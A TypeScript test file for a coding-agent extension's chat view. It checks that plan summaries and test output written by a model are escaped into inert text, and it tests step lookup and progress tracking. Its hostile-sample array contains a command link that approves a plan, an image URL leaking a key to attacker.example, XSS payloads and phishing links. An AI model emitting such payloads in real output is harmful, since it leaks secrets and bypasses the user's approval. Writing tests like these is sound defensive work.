import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import MarkdownIt from 'markdown-it';
import { codeBlock, codeSpan, findStep, inlineText, renderFinished, renderPlan, renderStepExplanation, renderStepLine } from '../../src/client/chat/chatMarkdown';
import { ChatProgress, stopOf, type RunSnapshot } from '../../src/client/chat/chatProgress';
import type { Plan, PlanStep } from '../../src/protocol/plan';

// The most permissive renderer: raw HTML on, bare URLs linked. Escaped text must stay text even here.
const markdown = new MarkdownIt({ html: true, linkify: true });
const render = (text: string): string => markdown.render(text);

/** What a hostile model, file or test run might write to become a link, an image, HTML or a command. */
const hostile = [
  '[Run Plan](command:plumbline.approvePlan)',
  '![x](https://attacker.example/leak?key=secret)',
  '<img src=x onerror=alert(1)> <script>alert(1)</script>',
  'visit https://attacker.example/phish or www.attacker.example',
  '<https://attacker.example/auto>',
  '# Heading\n---\n> quote',
  '`code` ``` fence ```',
  '&lt;b&gt; &#x3C;script&#x3E;',
  '[ref]: https://attacker.example\n[ref]',
  '$(alert) $(zap) theme icons',
  '\u001b[31mred\u001b[0m text',
];

function assertInert(html: string, source: string): void {
  assert.doesNotMatch(html, /<a[\s>]/, `no link from ${JSON.stringify(source)}: ${html}`);
  assert.doesNotMatch(html, /<img|<script|<h\d|<hr|<blockquote/, `no markup from ${JSON.stringify(source)}: ${html}`);
}

function step(overrides: Partial<PlanStep> = {}): PlanStep {
  return { id: 's1', title: 'Rename greet', instructions: 'Do it', files: ['src/greet.js'], dependsOn: [], status: 'pending', attempts: [], changedFiles: [], ...overrides };
}

function plan(steps: PlanStep[], overrides: Partial<Plan> = {}): Plan {
  return { runId: 'r1', task: 'Rename', summary: 'Rename greet to welcome', status: 'draft', notes: [], revision: 1, cost: { usd: 0, unpricedCalls: 0 }, steps, ...overrides };
}

describe("the Chat view's markdown", () => {
  test('model text becomes literal text: no link, image, HTML, heading or command survives escaping', () => {
    for (const text of hostile) {
      const html = render(inlineText(text));
      assertInert(html, text);
      // The words are still there for the reader.
      assert.match(html, /[a-z]/);
    }
    assert.equal(inlineText('see [x](command:y)'), 'see \\[x\\]\\(command\\:y\\)');
  });

  test('escaping is what makes it inert: the same text unescaped renders links and HTML', () => {
    assert.match(render(hostile[0] ?? ''), /<a href="command:/);
    assert.match(render(hostile[2] ?? ''), /<img/);
    assert.match(render(hostile[3] ?? ''), /<a href="https:\/\/attacker/);
  });

  test('test output goes in a fence it cannot close, without terminal escapes', () => {
    const output = 'ok 1\n```\n[click](command:x)\n````\n<img src=x>\n\u001b[31mnot ok 2\u001b[0m';
    const block = codeBlock(output);
    const html = render(block);
    assert.equal((html.match(/<pre>/g) ?? []).length, 1, 'one code block');
    assertInert(html, output);
    assert.match(block, /^`````text\n/);
    assert.ok(!block.includes('\u001b'), 'no terminal escapes');
    assert.match(codeBlock('x'.repeat(5000), 100), /4900 more characters/);
  });

  test('paths and ids sit in code spans, even with backticks in them', () => {
    for (const path of ['src/a.js', 'we`ird.js', '`edge`', '[x](command:y).js']) {
      const html = render(codeSpan(path));
      assertInert(html, path);
      assert.match(html, /<code>/);
      assert.ok(html.includes(markdown.utils.escapeHtml(path)), `${path} shown literally: ${html}`);
    }
  });

  test('the plan, a step line, an explanation and the end render hostile words inertly', () => {
    const evil = hostile.join(' ');
    const failed = step({
      status: 'failed',
      title: evil,
      error: evil,
      attempts: [{ number: 1, startedAt: 't', outcome: 'failed', detail: `not ok 1 - greets\n${evil}` }],
      reviews: [{ verdict: 'revise', outcome: 'revise', summary: evil, findings: [{ path: 'src/a.js', line: 3, problem: evil, suggestion: 'x' }], checks: [], model: 'm', tokens: 1, usd: 0, unpricedCalls: 0, durationMs: 1 }],
    });
    const shown = [
      renderPlan(plan([failed], { summary: evil })),
      renderStepLine(failed, 0),
      renderStepExplanation(failed, 0),
      renderFinished({ status: 'failed', reason: evil, summary: `${evil}\n${evil}`, applied: ['[a](command:x)'] }),
    ];
    for (const text of shown) assertInert(render(text), text);
    assert.match(renderStepExplanation(failed, 0), /Attempt 1: failed/);
    assert.match(render(renderStepExplanation(failed, 0)), /<pre><code class="language-text">not ok 1 - greets/);
  });

  test('a step is found by id, by its place in the plan, or as the last failed one', () => {
    const p = plan([step({ id: 's1', status: 'done' }), step({ id: 'rename-api', status: 'failed' }), step({ id: 's3', status: 'failed' })]);
    assert.equal(findStep(p, '2')?.step.id, 'rename-api');
    assert.equal(findStep(p, 'rename-api')?.index, 1);
    assert.equal(findStep(p, 'S3')?.index, 2);
    assert.equal(findStep(p, undefined)?.step.id, 's3');
    assert.equal(findStep(p, '9'), undefined);
    assert.equal(findStep(plan([step({ status: 'done' })]), undefined), undefined);
  });
});

describe("the Chat view's progress of a run", () => {
  const snapshot = (p: Plan | undefined, overrides: Partial<RunSnapshot> = {}): RunSnapshot => ({ runId: 'r1', phase: 'executing', plan: p, finished: undefined, awaitingApproval: false, reviewFiles: undefined, ...overrides });

  test('shows the plan once it is settled, each step once as it ends, and the end once', () => {
    const progress = new ChatProgress();
    assert.deepEqual(progress.next(snapshot(plan([step()]), { phase: 'exploring' })), [], 'a draft still being planned is not shown');
    const waiting = progress.next(snapshot(plan([step(), step({ id: 's2', title: 'Update callers' })]), { phase: 'awaiting_approval', awaitingApproval: true }));
    assert.equal(waiting.length, 1);
    assert.match(waiting[0] ?? '', /\*\*Plan\*\* \(2 steps\)/);
    assert.deepEqual(progress.next(snapshot(plan([step({ status: 'running' }), step({ id: 's2' })], { status: 'running' }))), []);
    const done = progress.next(snapshot(plan([step({ status: 'done', changedFiles: ['src/greet.js'] }), step({ id: 's2' })], { status: 'running' })));
    assert.deepEqual(done.length, 1);
    assert.match(done[0] ?? '', /^✓ Step 1 `s1` Rename greet: verified by the tests/);
    assert.deepEqual(progress.next(snapshot(plan([step({ status: 'done' }), step({ id: 's2' })], { status: 'running' }))), [], 'not repeated');
    const end = progress.next(snapshot(plan([step({ status: 'done' }), step({ id: 's2', status: 'failed', error: 'tests failed' })], { status: 'failed' }), { finished: { status: 'failed', summary: 'One step failed.', applied: [] } }));
    assert.equal(end.length, 2);
    assert.match(end[0] ?? '', /✗ Step 2 `s2`.*failed: tests failed/);
    assert.match(end[1] ?? '', /\*\*The run failed\*\*/);
    assert.deepEqual(progress.next(snapshot(plan([step({ status: 'done' })]), { finished: { status: 'failed', summary: '', applied: [] } })), []);
  });

  test('a follow-up does not repeat what the earlier answer showed', () => {
    const seen = snapshot(plan([step({ status: 'done' }), step({ id: 's2' })], { status: 'running' }));
    const progress = new ChatProgress(seen);
    assert.deepEqual(progress.next(seen), []);
    const next = progress.next(snapshot(plan([step({ status: 'done' }), step({ id: 's2', status: 'done' })], { status: 'running' })));
    assert.equal(next.length, 1);
    assert.match(next[0] ?? '', /Step 2/);
  });

  test('stops where the run needs the user: approval, an open review, or the end', () => {
    assert.equal(stopOf(snapshot(undefined)), undefined);
    assert.equal(stopOf(snapshot(undefined, { awaitingApproval: true })), 'approval');
    assert.equal(stopOf(snapshot(undefined, { phase: 'reviewing' })), undefined, 'the review request has not come yet');
    assert.equal(stopOf(snapshot(undefined, { phase: 'reviewing', reviewFiles: ['a.js'] })), 'review');
    assert.equal(stopOf(snapshot(undefined, { finished: { status: 'completed', summary: '', applied: [] }, awaitingApproval: true })), 'finished');
  });
});
